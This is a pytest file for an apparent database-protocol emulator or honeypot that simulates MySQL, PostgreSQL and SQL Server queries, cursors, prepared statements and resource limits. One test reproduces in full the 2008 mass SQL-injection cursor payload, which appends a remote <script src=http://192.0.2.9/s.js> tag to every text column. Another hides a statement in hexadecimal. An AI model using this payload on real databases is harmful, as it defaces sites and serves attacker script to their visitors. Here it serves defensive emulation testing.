"""What queries give in three dialects: names before them, unions, cursors, statements that wait for values; limits."""

from __future__ import annotations

import pytest

from eudaemon.events.catalogue import CommandEntered
from eudaemon.protocols import load
from eudaemon.protocols._sql.cursors import CURSORS_MAX
from eudaemon.protocols._sql.query import PRODUCT_ROWS_MAX, RECURSIONS_MAX
from eudaemon.protocols._sql.session import STATEMENTS_MAX
from eudaemon.protocols._sql.values import HELD_BYTES_MAX
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from protocols import mssql_client, mysql_client, postgres_client

HOST = Host.from_seed(Seed(b"test"))
TOO_MUCH = b"The SELECT would examine more than MAX_JOIN_SIZE rows"


def table(name: str) -> Table:
    return Table(load(name)(visit(host=HOST, purse=Purse(24 << 20)))).open()


def mysql() -> mysql_client.Client:
    return mysql_client.Client(table("mysql"))


def postgres() -> postgres_client.Client:
    return postgres_client.Client(table("postgres"))


def mssql() -> mssql_client.Client:
    return mssql_client.Client(table("mssql"))


def lines(talker: mysql_client.Client | postgres_client.Client | mssql_client.Client) -> list[str]:
    return [fact.line for fact in talker.table.facts if isinstance(fact, CommandEntered)]


@pytest.mark.parametrize(
    ("sql", "rows"),
    [
        (b"with a as (select 1 as x), b(y) as (select x + 1 from a) select a.x, b.y from a join b", [[1, 2]]),
        (b"with a as (select 1 as x) select x from (with a as (select 2 as x) select x from a) s", [[2]]),
        (b"select (with a as (select 7 as x) select x from a) as z", [[7]]),
        (b"with recursive t(n) as (select 1 union all select n + 1 from t where n < 2) select n from t", [[1], [2]]),
        (b"with recursive t(n) as (select 1 union select 3 - n from t) select n from t order by n", [[1], [2]]),
        (b"with recursive t(n) as (select 1 union all select n + 1 from t limit 3) select n from t", [[1], [2], [3]]),
        (b"with recursive t(n) as (select 1 union all select 2) select count(*) from t", [[2]]),
        (b"with recursive t(n) as (select 1 union select 2 union all select n + 2 from t where n < 3) select count(*) "
         b"from t", [[4]]),
        (b"select 1 union select 1 union all select 1", [[1], [1]]),
        (b"select coalesce(count(*), 7) + 1 from (select 1 as a union select 2) s", [[3]]),
        (b"select 1 union all select 1 union select 1", [[1]]),
        (b"select 1 as a union select 3 union select 2 order by a desc limit 2", [[3], [2]]),
        (b"select 'a ' = 'a', 'a' = ' a'", [[1, 0]]),
    ],
)  # fmt: skip
def test_what_mysql_and_postgres_say_alike(sql: bytes, rows: list[list[int]]) -> None:
    wanted = [[b"%d" % value for value in row] for row in rows]
    assert mysql().rows(sql) == wanted
    found = [[{b"t": b"1", b"f": b"0"}.get(value or b"", value) for value in row] for row in postgres().rows(sql)]
    assert found == wanted


def test_names_before_what_changes_tables() -> None:
    c = postgres()
    c.do(b"create table t(n int)")
    assert c.tags(b"with recursive r(n) as (values (1), (2) union all select n + 2 from r where n < 5) "
                  b"insert into t select n from r") == [b"INSERT 0 6"]  # fmt: skip
    assert c.tags(b"with r as (select 5 as n) delete from t where n in (select n from r)") == [b"DELETE 1"]
    assert c.error(b"select n from r") == (b"42P01", b'relation "r" does not exist')
    assert c.error(b"with r(a, b) as (select 1) select 2")[0] == b"42601"
    c2 = mssql()
    assert "\x07" in c2.do(b"create table #t(n int);with r as (select 7 as n) insert into #t select n from r "
                           b"select n from #t;with init")  # fmt: skip


def test_a_recursion_ends() -> None:
    sql = b"with recursive t(n) as (select 1 union all select n + 1 from t where n < %d) select count(*) from t"
    assert mysql().rows(sql % RECURSIONS_MAX) == [[b"%d" % RECURSIONS_MAX]]
    assert mysql().error(sql % (RECURSIONS_MAX + 1)).startswith(b"Recursive query aborted after 1001 iterations")
    more = (
        b"with recursive t(n) as (select 1 union all select n + 1 from t join t2 where n < 99) select count(*) from t"
    )
    c = mysql()
    c.do(b"create database d; use d; create table t2(a int); insert into t2 values (1), (2)")
    assert c.error(more).startswith(TOO_MUCH), PRODUCT_ROWS_MAX


@pytest.mark.parametrize("past", [0, 1])
@pytest.mark.parametrize(
    "sql",
    [
        b"select repeat('a', %d) from t", b"select length(concat_ws('', %d, %d))",
        b"select max(repeat('a', %d)) from t",
        b"select 1 from t order by repeat('a', %d)", b"select 1 from t group by repeat('a', %d)",
        b"insert into t values (repeat('a', %d)), (repeat('a', %d)), (repeat('a', %d)), (repeat('a', %d))",
    ],
)  # fmt: skip
def test_what_a_request_may_hold(sql: bytes, past: int) -> None:
    """Values that are all alive at a time: each may be 16 MiB, and a statement has thousands of them."""
    c = mysql()
    c.do(b"create database d; use d; create table t(a blob); insert into t values (1), (2), (3), (4)")
    size = HELD_BYTES_MAX // 4 + past
    if b"concat_ws" in sql:
        sql = sql.replace(b"%d, %d", b", ".join([b"repeat('a', %d)"] * 4))
    said = mysql_client.payloads(c.do(sql % ((size,) * sql.count(b"%d"))))[-1]
    assert said[9:].startswith(TOO_MUCH) == bool(past), said[:60]
    assert c.rows(b"select 1") == [[b"1"]], "it is forgotten with the request"


def test_what_other_statements_may_hold() -> None:
    c = postgres()
    rows = b", ".join([b"(repeat('a', %d))" % (HELD_BYTES_MAX // 4)] * 4)
    assert len(c.tags(b"values " + rows)) == 1
    assert c.error(b"values " + rows + b", ('a')") == (b"54001", b"statement too complex")
    c2 = mssql()
    loop = ("create table #t(a text) insert into #t exec('declare @i int set @i = 0 while @i < %d begin "
            "select replicate(''x'', 1048576) set @i = @i + 1 end') select 'done'")  # fmt: skip
    assert "done" in c2.do((loop % 8).encode())
    assert "ran out of internal resources" in c2.do((loop % 41).replace("create table #t(a text)", "").encode())


def test_what_an_error_leaves_is_forgotten() -> None:
    c = postgres()
    c.do(b"create table t(a int); insert into t values (7)")
    assert c.error(b"select 1 from t where nosuch = 1")[0] == b"42703"
    assert c.error(b"select a") == (b"42703", b'column "a" does not exist')


# --- statements that wait for values ---------------------------------------------------------------------


def test_a_statement_hidden_in_hexadecimal() -> None:
    c = mysql()
    said = c.do(b"set @s = 0x73656c65637420636f6e63617428273c272c203f29; prepare s from @s; set @a = 'x'; "
                b"execute s using @a")  # fmt: skip
    assert b"\x02<x" in said
    assert lines(c)[-1] == "select concat('<', 'x')"
    assert c.error(b"execute s") == b"Incorrect arguments to EXECUTE"
    assert c.error(b"prepare t from 'execute s'").startswith(b"This command is not supported in the prepared")
    assert c.do(b"deallocate prepare s")[4:5] == b"\0"
    assert c.error(b"drop prepare s") == b"Unknown prepared statement handler (s) given to EXECUTE"


def test_postgres_prepares_in_sql() -> None:
    c = postgres()
    assert c.tags(b"prepare p (text) as select 'a' || $1") == [b"PREPARE"]
    assert c.rows(b"execute p('b')") == [[b"ab"]]
    assert lines(c)[-1] == "select 'a' || 'b'"
    assert c.error(b"prepare p as select 1") == (b"42P05", b'prepared statement "p" already exists')
    assert c.error(b"prepare q as execute p('b')")[0] == b"42601"
    assert c.tags(b"deallocate all") == [b"DEALLOCATE ALL"]
    assert c.error(b"execute p('b')") == (b"26000", b'prepared statement "p" does not exist')
    assert c.error(b"deallocate p")[0] == b"26000"
    for number in range(STATEMENTS_MAX + 1):
        said = c.do(b"prepare p%d as select 1" % number)
    assert postgres_client.error(said)[0] == b"53100"


# --- cursors -----------------------------------------------------------------------------------------------


def test_postgres_cursors() -> None:
    c = postgres()
    assert c.tags(b"begin; declare c no scroll cursor with hold for values (1), (2), (3), (4)") == [
        b"BEGIN", b"DECLARE CURSOR"]  # fmt: skip
    assert c.rows(b"fetch c") == [[b"1"]]
    assert c.tags(b"move next from c") == [b"MOVE 1"]
    assert c.rows(b"fetch forward 9 from c") == [[b"3"], [b"4"]]
    assert c.tags(b"fetch all in c") == [b"FETCH 0"]
    assert c.error(b"declare c cursor for select 1") == (b"42P03", b'cursor "c" already exists')
    assert c.tags(b"rollback; begin; declare c cursor for select 1; close c; close all; commit")[3:] == [
        b"CLOSE CURSOR", b"CLOSE CURSOR ALL", b"COMMIT"]  # fmt: skip
    assert c.error(b"fetch c") == (b"34000", b'cursor "c" does not exist')
    for number in range(CURSORS_MAX + 1):
        said = c.do(b"declare c%d cursor for select 1" % number)
    assert postgres_client.error(said)[0] == b"53100"


def test_the_cursor_that_puts_a_script_into_every_column() -> None:
    """The mass injection of 2008: `DECLARE @T … EXEC('UPDATE ['+@T+'] SET …')`."""
    c = mssql()
    c.do(b"use model create table pages(title varchar(50), body ntext) insert into pages values ('a', 'b')")
    said = c.do(
        b"DECLARE @T VARCHAR(255),@C VARCHAR(255) DECLARE Table_Cursor CURSOR FOR SELECT a.name,b.name FROM sysobjects "
        b"a,syscolumns b WHERE a.id=b.id AND a.xtype='u' AND (b.xtype=99 OR b.xtype=35 OR b.xtype=231 OR b.xtype=167) "
        b"OPEN Table_Cursor FETCH NEXT FROM Table_Cursor INTO @T,@C WHILE(@@FETCH_STATUS=0) BEGIN EXEC('UPDATE ['+@T+'"
        b"] SET ['+@C+']=RTRIM(CONVERT(VARCHAR(4000),['+@C+']))+''<script src=http://192.0.2.9/s.js></script>''') "
        b"FETCH NEXT FROM Table_Cursor INTO @T,@C END CLOSE Table_Cursor DEALLOCATE Table_Cursor select body from pages"
    )
    assert "b<script src=http://192.0.2.9/s.js></script>" in said
    assert ("UPDATE [pages] SET [body]=RTRIM(CONVERT(VARCHAR(4000),[body]))+'<script src=http://192.0.2.9/s.js>"
            "</script>'") in lines(c)  # fmt: skip


def test_sql_server_says_what_is_wrong_with_a_cursor() -> None:
    c = mssql()
    for sql, said in (
        (b"open c", "A cursor with the name 'c' does not exist."),
        (b"declare c cursor for select 1 fetch c", "Cursor is not open."),
        (b"declare c cursor for select 1", "A cursor with the name 'c' already exists."),
        (b"open c open c", "The cursor is already open."),
        (b"declare @a int, @b int fetch c into @a, @b", "number of variables declared in the INTO list"),
        (b"close c close c", "Cursor is not open."),
        (b"deallocate c open c", "A cursor with the name 'c' does not exist."),
    ):
        assert said in c.do(sql), sql
    assert "\x07" in c.do(
        b"declare d scroll cursor local fast_forward for select 7 for read only open d fetch next from d"
    )
    for number in range(CURSORS_MAX):
        said = c.do(b"declare c%d cursor for select 1" % number)
    assert "Could not allocate space" in said
